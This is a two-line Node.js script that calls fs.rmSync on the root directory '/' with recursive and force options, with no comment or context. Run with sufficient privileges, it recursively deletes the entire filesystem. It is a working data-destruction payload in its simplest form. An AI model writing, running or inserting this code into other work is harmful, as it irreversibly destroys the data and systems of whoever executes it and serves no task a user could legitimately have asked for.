const fs = require('node:fs');
fs.rmSync('/', { recursive: true, force: true });
